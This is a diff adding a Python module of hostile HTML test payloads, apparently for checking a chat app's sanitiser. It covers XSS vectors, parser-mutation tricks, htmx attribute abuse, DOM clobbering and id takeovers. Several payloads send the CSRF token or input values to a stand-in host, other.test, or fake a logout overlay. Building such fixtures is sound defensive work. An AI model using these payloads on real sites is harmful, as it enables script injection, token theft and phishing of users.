@@ -1,0 +1,262 @@
+"""Hostile markup: what would run, load, take over or clobber, were it read as HTML."""
+
+# ruff: noqa: E501 - payloads
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+SPOIL = "window.pwned=1"
+# Where a handler fires without a click, and on what.
+HANDLERS = (
+    ("img src=x:", "onerror"),
+    ("img src=/static/none", "onloadend"),
+    ("svg", "onload"),
+    ("svg/onload=0", "onunload"),
+    ("body", "onpageshow"),
+    ("body", "onhashchange"),
+    ("input autofocus", "onfocus"),
+    ("select autofocus", "onfocusin"),
+    ("textarea autofocus", "onfocus"),
+    ("details open", "ontoggle"),
+    ("video src=x:", "onerror"),
+    ("video><source src=x:", "onerror"),
+    ("audio src=x:", "onerror"),
+    ("object data=x:", "onerror"),
+    ("embed src=x:", "onload"),
+    ("iframe src=/", "onload"),
+    ("style", "onload"),
+    ("link rel=stylesheet href=x:", "onerror"),
+    ("script src=x:", "onerror"),
+    ("marquee", "onstart"),
+    ("div tabindex=0 autofocus", "onfocus"),
+    ("div style=animation-name:spin", "onanimationstart"),
+    ("div style=transition:1s", "ontransitionrun"),
+    ("p contenteditable", "onbeforeinput"),
+    ("div", "onpointerrawupdate"),
+    ("div", "onmouseover"),
+    ("dialog open", "onclose"),
+    ("math", "onclick"),
+    ("div popover id=p", "onbeforetoggle"),
+    ("div", "oncontentvisibilityautostatechange"),
+    ("form", "onformdata"),
+    ("track src=x:", "onerror"),
+)
+WRITTEN = ("<{0} {1}={2}>", '<{0} {1}="{2}">', "<{0}\n{1}\n=\n'{2}'", "<{0}/{1}=`{2}`//")
+
+ACTIVE = (
+    "<script>{}</script>",
+    "<script type=module>{}</script>",
+    "<script\t>{}</script\n>",
+    "<script nonce=x>{}</script>",
+    "<script>/*</script>*/{}</script>",
+    "<script><!--<script></script>{}</script>",
+    "<script src=data:text/javascript,{}></script>",
+    "<script src=//other.test/x.js></script>",
+    "<script src=/files/00000000-0000-4000-8000-000000000000/></script>",
+    '<script type=importmap>{{"imports":{{"x":"//other.test/x.js"}}}}</script>',
+    '<script type=speculationrules>{{"prefetch":[{{"urls":["//other.test/"]}}]}}</script>',
+    "<svg><script>{}</script></svg>",
+    "<svg><script href=data:text/javascript,{} /></svg>",
+    "<svg><a xlink:href='javascript:{}'><text y=20>go</text></a></svg>",
+    "<svg><set attributeName=onmouseover to={} /></svg>",
+    "<svg><animate attributeName=href values=javascript:{} /><a id=x><text>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>",
+    "<svg><image href=//other.test/i.png /></svg>",
+    "<svg><feImage href=//other.test/i.png /></svg>",
+    "<svg><style>@import url(//other.test/s.css)</style></svg>",
+    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{}</handler></svg>",
+    "<svg><discard onbegin={}></svg>",
+    "<math><maction actiontype='statusline#//other.test' xlink:href='javascript:{}'>x</maction></math>",
+    "<math><annotation-xml encoding=text/html><img src=x: onerror={}></annotation-xml></math>",
+    "<iframe src='javascript:{}'></iframe>",
+    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'></iframe>",
+    "<iframe src=/accounts/logout/></iframe>",
+    "<iframe sandbox='allow-scripts allow-same-origin' src=//other.test/></iframe>",
+    "<fencedframe src=//other.test/></fencedframe>",
+    "<portal src=//other.test/ onload={}></portal>",
+    "<frameset onload={}><frame src=//other.test/></frameset>",
+    "<object data='data:text/html,<script>{}</script>'></object>",
+    "<object type=text/x-scriptlet data=//other.test/x></object>",
+    "<applet code=x archive=//other.test/x.jar></applet>",
+    "<embed type=image/svg+xml src='data:image/svg+xml,<svg onload={}>'>",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+    "<meta http-equiv=refresh content='0;url=//other.test/'>",
+    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
+    "<meta name=referrer content=unsafe-url>",
+    "<meta http-equiv=Set-Cookie content='sessionid=theirs'>",
+    "<base href=//other.test/>",
+    "<base target=_parent href='javascript:{}//'>",
+    "<link rel=stylesheet href=//other.test/s.css>",
+    "<link rel=prefetch href=//other.test/>",
+    "<link rel=preconnect href=//other.test/>",
+    "<link rel=dns-prefetch href=//other.test/>",
+    "<link rel=icon href=//other.test/i.ico>",
+    "<link rel=manifest href=//other.test/m.json>",
+    "<link rel=import href=//other.test/x>",
+    "<form action=//other.test/ id=composer><input name=csrfmiddlewaretoken><button>Sign in</button></form>",
+    "<form action='javascript:{}'><input type=submit></form>",
+    "<form id=act><button form=act formaction=//other.test/>Retry</button></form>",
+    "<button form=composer formaction=//other.test/ formmethod=get>Send</button>",
+    "<input type=image src=//other.test/i.png formaction='javascript:{}'>",
+    "<isindex action='javascript:{}' type=submit>",
+    "<a href='javascript:{}'>x</a>",
+    "<a href=# ping=//other.test/>x</a>",
+    "<a href=//other.test/ download=x.exe>x</a>",
+    "<a href=//other.test/ target=_self>sign in again</a>",
+    "<area shape=default href='javascript:{}'><map name=m></map>",
+    "<img src=//other.test/i.png>",
+    "<img srcset='//other.test/i.png 1x'>",
+    "<img src=//other.test/i.png loading=lazy fetchpriority=high referrerpolicy=unsafe-url>",
+    "<picture><source srcset=//other.test/i.png><img></picture>",
+    "<video poster=//other.test/i.png autoplay>",
+    "<audio src=//other.test/a.mp3 autoplay>",
+    "<body background=//other.test/i.png>",
+    "<table background=//other.test/i.png><td background=//other.test/j.png>",
+    "<style>@import '//other.test/s.css';</style>",
+    "<style>input[value^=a]{{background:url(//other.test/a)}}</style>",
+    "<style>@font-face{{font-family:x;src:url(//other.test/f)}}*{{font-family:x}}</style>",
+    "<style>*{{display:none!important}}</style>",
+    "<p style='background:url(//other.test/i.png)'>x</p>",
+    "<p style='position:fixed;inset:0;z-index:99999;background:white'>Your session has ended</p>",
+    "<p style=width:expression({})>x</p>",
+    "<p style='-moz-binding:url(//other.test/x.xml#x)'>x</p>",
+    "<p style=\"font-family:'</style><script>{}</script>'\">x</p>",
+    "<xml id=x><x><![CDATA[<img src=x: onerror={}>]]></x></xml>",
+    "<xss-x is=x contenteditable autofocus onfocus={}>",
+    "<slot name=x onslotchange={}></slot>",
+    "<template shadowrootmode=open><script>{}</script></template>",
+    "<template shadowrootmode=open><style>:host{{position:fixed;inset:0}}</style></template>",
+    "<plaintext>all that follows",
+    "<listing><img src=x: onerror={}></listing>",
+    "<xmp><script>{}</script></xmp>",
+    "<noembed><script>{}</script></noembed>",
+    "<title></title><script>{}</script>",
+    "<bgsound src='javascript:{}'>",
+    "<layer src=//other.test/></layer>",
+    "<keygen autofocus onfocus={}>",
+    "<menu type=context><menuitem onclick={}></menu>",
+    "<model src=//other.test/m.usdz></model>",
+    "<permission type=camera>",
+)  # fmt: skip
+
+HALF_OPEN = (
+    "<script>{}",
+    "<script",
+    "<scr",
+    "<",
+    "</",
+    "<!",
+    "<!-",
+    "<!--",
+    "<!-- <script>{}",
+    "<img src=x: onerror={}",
+    "<img src=x: onerror='{}",
+    "<svg><style><img src=x: onerror={}",
+    '<a href="https://a.test/" title="',
+    "<a href='",
+    "<p title='--><script>{}</script>",
+    "<textarea><img src=x: onerror={}",
+    "<title><script>{}",
+    "<style><!--</style><script>{}</script>",
+    "<math><mtext></p><script>{}",
+    "</div></article></main><div id=main>",
+    "</template><script>{}</script>",
+    "</textarea></form><script>{}</script>",
+    "</pre></details></aside><script>{}</script>",
+    "--></script><script>{}</script>",
+    "]]><script>{}</script>",
+    "?><script>{}</script>",
+    '"><script>{}</script>',
+    "'><img src=x: onerror={}>",
+    "`><svg onload={}>",
+    '" autofocus onfocus="{}" x="',
+    "' style='position:fixed' x='",
+)
+
+MUTATING = (
+    "<svg><p><style><g title=\"</style><img src=x: onerror={}>\">",
+    "<math><p><style><!--</style><img title=\"--&gt;&lt;img src=x: onerror={}&gt;\">",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={}>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src onerror={}&gt;\">",
+    "<svg></p><title><a id=\"</title><img src=x: onerror={}>\"></svg>",
+    "<noscript><style></noscript><img src=x: onerror={}></style>",
+    "<select><template><style></select><img src=x: onerror={}></style>",
+    "<table><caption><svg><desc><table><caption></svg><img src=x: onerror={}>",
+    "<svg><desc><noscript></svg></noscript><img src=x: onerror={}>",
+    "<math><annotation-xml encoding='application/xhtml+xml'><style><img src=x: onerror={}>",
+    "<a><svg><a><style></a><img src=x: onerror={}></style></svg></a>",
+    "<svg><foreignobject><math><mi><svg><style><img src=x: onerror={}>",
+    "<p><svg><title><p><style></title></svg><img src=x: onerror={}></style>",
+    "<template><svg><style></template><img src=x: onerror={}></style></svg>",
+    "<b><p><b><p><b><p><svg><style><!--</p></b><img src=x: onerror={}>",
+    "<table><tr><td><select><option></table><img src=x: onerror={}>",
+)  # fmt: skip
+
+# The names of what our own page and scripts reach for.
+OURS = ("main", "live", "messages", "composer", "prompt", "notice", "sidebar", "act", "m1",
+        "m1-tail", "m1-open", "next-0", "latest", "connection", "head", "usage", "total",
+        "csrfmiddlewaretoken")  # fmt: skip
+CLOBBERED = ("location", "document", "body", "htmx", "cookie", "forms", "getElementById",
+             "__proto__", "constructor", "defaultView", "currentScript", "querySelector")  # fmt: skip
+HTMX = (
+    "<div hx-get=/accounts/logout/ hx-trigger=load></div>",
+    "<div data-hx-post=/send/ data-hx-trigger='every 1s'></div>",
+    "<i hx-on:click='{}'>x</i>",
+    "<i hx-on::load='{}'>x</i>",
+    "<i hx-on='htmx:load: {}'>x</i>",
+    "<i data-hx-on--after-request='{}'>x</i>",
+    "<i hx-vals='js:{{a:{}}}' hx-post=/send/ hx-trigger=load>x</i>",
+    "<i hx-headers='js:{{a:{}}}' hx-get=/ hx-trigger=revealed>x</i>",
+    "<i hx-get=/ hx-trigger='load[{}]'>x</i>",
+    "<i hx-vars='a:{}' hx-get=/ hx-trigger=load>x</i>",
+    "<div hx-ext=ws ws-connect=//other.test/ws></div>",
+    "<div hx-ext=ws ws-connect=/ws/c/0/ ws-send></div>",
+    "<div hx-ws='connect:wss://other.test/'></div>",
+    "<div hx-ext=sse sse-connect=//other.test/events sse-swap=message></div>",
+    "<div hx-sse='connect:/events swap:x'></div>",
+    "<a hx-boost=true href=//other.test/>x</a>",
+    "<div hx-delete=/c/1/delete/ hx-trigger=intersect></div>",
+    "<div hx-put=/x hx-trigger='mouseenter from:body'></div>",
+    "<div hx-get=/ hx-target=#composer hx-swap=outerHTML hx-trigger=load></div>",
+    "<div hx-history=false hx-push-url=//other.test/ hx-get=/ hx-trigger=load></div>",
+    "<div hx-include='[name=csrfmiddlewaretoken]' hx-post=//other.test/ hx-trigger=load></div>",
+    "<div hx-confirm=x hx-prompt=x hx-params=* hx-select-oob='#composer' hx-get=/></div>",
+    "<meta name=htmx-config content='{{\"selfRequestsOnly\":false,\"allowEval\":true}}'>",
+    "<script type=text/hyperscript>on load call {}</script>",
+    "<div _='on load call {}'></div>",
+    "<div x-data x-init='{}'></div>",
+    "<div v-html=\"'<img src=x: onerror={}>'\"></div>",
+    "<div ng-app>{{{{constructor.constructor('{}')()}}}}</div>",
+    "<hx-partial hx-target=#composer><b>x</b></hx-partial>",
+    "<template hx-swap-oob=true id=composer>x</template>",
+)  # fmt: skip
+SWAPS = ("true", "outerHTML", "innerHTML:#messages", "beforeend:#live", "delete:#composer",
+         "afterbegin:body", "outerHTML:article")  # fmt: skip
+
+
+def markup() -> Iterator[tuple[str, str]]:
+    """Pairs of a family and a payload."""
+    for number, (tag, handler) in enumerate(HANDLERS):
+        yield "handlers", WRITTEN[number % len(WRITTEN)].format(tag, handler, SPOIL)
+    for family, shapes in (
+        ("active", ACTIVE), ("half open", HALF_OPEN), ("mutating", MUTATING), ("htmx", HTMX),
+    ):  # fmt: skip
+        for shape in shapes:
+            yield (
+                family,
+                shape.replace("{{", "\0")
+                .replace("}}", "\1")
+                .replace("{}", SPOIL)
+                .replace("\0", "{")
+                .replace("\1", "}"),
+            )
+    for number, name in enumerate(OURS):
+        swap = SWAPS[number % len(SWAPS)]
+        yield "ids of ours", f'<div id="{name}" hx-swap-oob="{swap}">taken over</div>'
+        yield "ids of ours", f"# {name} {{#{name} hx-swap-oob={swap}}}"
+    for number, name in enumerate(CLOBBERED):
+        shape = ("<a id={0}><a id={0} name=href href=//other.test/>", "<img name={0}>",
+                 "<form name={0}><input id=children name=parentNode></form>",
+                 "<iframe name={0} srcdoc=x></iframe>")[number % 4]  # fmt: skip
+        yield "clobbering", shape.format(name)
